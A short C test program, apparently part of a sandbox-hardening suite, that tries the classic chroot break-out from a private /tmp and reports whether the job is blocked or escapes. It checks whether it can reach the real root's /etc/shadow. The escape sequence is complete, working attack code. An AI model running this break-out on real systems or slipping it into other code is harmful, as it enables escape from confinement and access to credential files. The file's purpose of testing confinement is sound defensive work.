/* SPDX-License-Identifier: MIT */
/* Attack: the classic chroot break-out (chroot into a subfolder while keeping a handle on the
 * old root, then walk up past it), from the private /tmp. Needs CAP_SYS_CHROOT, which the job
 * must not have. */
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

int main(void)
{
        int old = open(".", O_RDONLY | O_DIRECTORY);
        (void)mkdir("/tmp/jail", 0755);
        if (chroot("/tmp/jail") < 0) {
                blocked("chroot: %s", attack_errname(errno));
                return 0;
        }
        if (old >= 0 && fchdir(old) == 0)
                for (int i = 0; i < 64; i++)
                        (void)chdir("..");
        if (chroot(".") == 0 && access("/proc/1/root/etc/shadow", R_OK) == 0)
                escaped("chroot break-out reached the real root and its shadow file");
        else
                escaped("chroot() itself succeeded (CAP_SYS_CHROOT held)");
        return 0;
}
